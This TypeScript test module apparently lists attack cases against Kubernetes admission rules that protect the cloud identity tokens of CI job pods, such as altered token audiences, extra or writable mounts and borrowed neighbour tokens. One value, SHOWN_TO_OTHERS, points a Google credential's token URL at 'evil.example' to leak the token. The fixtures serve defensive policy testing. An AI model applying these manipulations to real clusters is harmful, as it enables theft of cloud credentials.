import { GOOGLE_ANNOTATION, IDENTITY_VOLUME } from '../../facts/fleet/job-identity';
import { at, listOf } from '../../facts/untyped';
import type { Body } from '../request';
import { type Attack, type PodRow, podAttacks, updating } from './attack';
import { added, changed } from './edit';
import { SOMEBODY } from './scene';

/** Who has the token of a job for its cloud is the job there: the build container of jobs of that runner has it, and nobody else. */

const VOLUME = `spec.volumes.${IDENTITY_VOLUME}`;
const SECONDS = 3600n;

/** The volume of a job whose runner is somebody in a cloud. */
function volumeOf(pod: Body): Body | undefined {
  return listOf(at(pod, 'spec', 'volumes')).find((volume) => at(volume, 'name') === IDENTITY_VOLUME) as
    | Body
    | undefined;
}

function sourcesOf(pod: Body): readonly unknown[] {
  return listOf(at(volumeOf(pod), 'projected', 'sources'));
}

/** Changes the token of a job that has one. */
function withToken(change: (token: Body) => Body): PodRow[3] {
  return (pod) => {
    const [source, ...others] = sourcesOf(pod);
    const token = at(source, 'serviceAccountToken') as Body | undefined;
    return token === undefined
      ? undefined
      : changed(pod, `${VOLUME}.projected.sources`, [{ serviceAccountToken: change(token) }, ...others]);
  };
}

/** Changes the file that is shown to Google, where a job has one. */
function withFile(change: (source: Body) => Body): PodRow[3] {
  return (pod) => {
    const [token, file] = sourcesOf(pod);
    return file === undefined
      ? undefined
      : changed(pod, `${VOLUME}.projected.sources`, [token, change(file as Body)]);
  };
}

/** Mounts the token of a job that has one. */
function withMount(container: string, mount: Body): PodRow[3] {
  return (pod) =>
    volumeOf(pod) === undefined
      ? undefined
      : added(pod, `${container}.volumeMounts`, { name: IDENTITY_VOLUME, readOnly: true, ...mount });
}

/** A volume with a token for somebody. */
function tokenFor(audience: string): Body {
  return {
    name: IDENTITY_VOLUME,
    projected: {
      sources: [{ serviceAccountToken: { audience, expirationSeconds: SECONDS, path: 'token' } }],
    },
  };
}

/** Where a thief would like to find the token. */
const ELSEWHERE = '/opt/cloud';

/** What would show the token of a job to somebody else than Google. */
const SHOWN_TO_OTHERS = '{"type":"external_account","token_url":"https://evil.example/"}';

const OF_JOBS: readonly PodRow[] = [
  [
    'job-volumes',
    'for-the-api-server',
    'a job pod whose token for its cloud is one that the API server takes',
    withToken(({ audience: _, ...token }) => token),
    'every',
  ],
  [
    'job-volumes',
    'for-another',
    'a job pod whose token is for another than its cloud',
    withToken((token) => ({ ...token, audience: 'vault' })),
  ],
  [
    'job-volumes',
    'for-a-day',
    'a job pod whose token for its cloud lasts a day',
    withToken((token) => ({ ...token, expirationSeconds: 86_400n })),
  ],
  [
    'job-volumes',
    'in-another-file',
    'a job pod whose token for its cloud is another file',
    withToken((token) => ({ ...token, path: 'other' })),
  ],
  [
    'job-volumes',
    'with-a-secret',
    'a job pod that has the token of its runner beside that for its cloud',
    (pod, { runner }) =>
      volumeOf(pod) === undefined
        ? undefined
        : added(pod, `${VOLUME}.projected.sources`, { secret: { name: `${runner.name}-token` } }),
    'every',
  ],
  [
    'job-volumes',
    'with-a-second-token',
    'a job pod that has a token for somebody else beside that for its cloud',
    (pod) =>
      volumeOf(pod) === undefined
        ? undefined
        : added(pod, `${VOLUME}.projected.sources`, {
            serviceAccountToken: { audience: 'vault', expirationSeconds: SECONDS, path: 'second' },
          }),
  ],
  [
    'job-volumes',
    'by-another-name',
    'a job pod with its token for its cloud in one more volume',
    (pod) => {
      const volume = volumeOf(pod);
      return volume && added(pod, 'spec.volumes', { ...volume, name: 'extra' });
    },
  ],
  ...['sts.amazonaws.com', 'api://AzureADTokenExchange', '', 'vault'].map(
    (audience, index): PodRow => [
      'job-volumes',
      `of-nobody-${index + 1}`,
      `a job pod of a runner that is nobody in a cloud, with a token for ${audience || 'the API server'}`,
      (pod) => (volumeOf(pod) === undefined ? added(pod, 'spec.volumes', tokenFor(audience)) : undefined),
      'every',
    ],
  ),
  [
    'job-volumes',
    'of-a-neighbour',
    'a job pod with a token for the cloud of another runner',
    (pod, { neighbour }) => {
      const [other, own] = [neighbour && volumeOf(neighbour.jobPod), volumeOf(pod)];
      const isOther = JSON.stringify(other, printable) !== JSON.stringify(own, printable);
      return other === undefined || !isOther
        ? undefined
        : own === undefined
          ? added(pod, 'spec.volumes', other)
          : changed(pod, `${VOLUME}.projected`, other['projected']);
    },
    'every',
  ],
  [
    'job-cloud-identity',
    'in-helper',
    'a job pod whose helper has its token for its cloud',
    withMount('spec.containers.helper', { mountPath: ELSEWHERE }),
  ],
  [
    'job-cloud-identity',
    'at-the-start',
    'a job pod whose init container has its token for its cloud',
    withMount('spec.initContainers.init-permissions', { mountPath: ELSEWHERE }),
  ],
  [
    'job-cloud-identity',
    'in-a-service',
    'a job pod with a service that has its token for its cloud',
    (pod) => {
      const helper = listOf(at(pod, 'spec', 'containers')).find(
        (container) => at(container, 'name') === 'helper',
      );
      return volumeOf(pod) === undefined
        ? undefined
        : added(pod, 'spec.containers', {
            ...(helper as Body),
            name: 'svc-0',
            volumeMounts: [{ name: IDENTITY_VOLUME, mountPath: ELSEWHERE, readOnly: true }],
          });
    },
  ],
  [
    'job-cloud-identity',
    'mounted-elsewhere',
    'a job pod that has its token for its cloud in another folder too',
    withMount('spec.containers.build', { mountPath: ELSEWHERE }),
  ],
  [
    'job-cloud-identity',
    'mounted-writable',
    'a job pod that may write beside its token for its cloud',
    withMount('spec.containers.build', { mountPath: ELSEWHERE, readOnly: false }),
  ],
  [
    'job-volumes',
    'file-of-another-annotation',
    'a job pod whose file for Google is made of another annotation',
    withFile(() => ({
      downwardAPI: { items: [{ path: 'google.json', fieldRef: { fieldPath: "metadata.annotations['x']" } }] },
    })),
  ],
  [
    'job-volumes',
    'file-in-another-place',
    'a job pod whose file for Google has another name',
    withFile((source) => ({
      downwardAPI: {
        items: listOf(at(source, 'downwardAPI', 'items')).map((item) => ({
          ...(item as Body),
          path: 'other.json',
        })),
      },
    })),
  ],
  [
    'job-metadata',
    'shown-to-others',
    'a job pod that shows its token for Google to somebody else',
    (pod) =>
      sourcesOf(pod).length < 2
        ? undefined
        : changed(pod, ['metadata', 'annotations', GOOGLE_ANNOTATION], SHOWN_TO_OTHERS),
    'every',
  ],
];

/** The numbers of bodies are those of CEL. */
function printable(_: string, value: unknown): unknown {
  return typeof value === 'bigint' ? Number(value) : value;
}

/** Attacks on the identities of jobs in clouds: with a stolen token of a manager, or with rights in the namespace. */
export const ATTACKS_ON_JOB_IDENTITIES: readonly Attack[] = [
  ...podAttacks(
    ({ manager, jobPod }) => [manager, jobPod],
    OF_JOBS.map(([rule, id, ...rest]) => [rule, `job-cloud-token-${id}`, ...rest]),
  ),
  {
    rule: 'change-cloud-identity',
    id: 'running-job-shows-its-token-to-others',
    tries: 'to let a running job show its token for Google to somebody else',
    of: 'every',
    request: ({ jobPod }) =>
      sourcesOf(jobPod).length < 2
        ? undefined
        : updating(
            SOMEBODY,
            'pods',
            jobPod,
            changed(jobPod, ['metadata', 'annotations', GOOGLE_ANNOTATION], SHOWN_TO_OTHERS),
          ),
  },
];
